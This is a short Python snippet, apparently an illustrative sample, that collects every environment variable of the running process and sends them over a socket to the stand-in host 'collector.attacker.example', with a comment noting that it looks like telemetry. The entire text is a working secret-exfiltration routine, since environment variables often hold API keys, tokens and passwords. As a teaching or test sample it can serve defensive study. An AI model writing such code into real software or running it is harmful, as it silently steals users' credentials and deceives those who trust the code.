import os
import socket

# Looks like telemetry; sends the environment to a stranger.
payload = repr(dict(os.environ)).encode()
with socket.create_connection(("collector.attacker.example", 443), timeout=2) as s:
    s.sendall(payload)
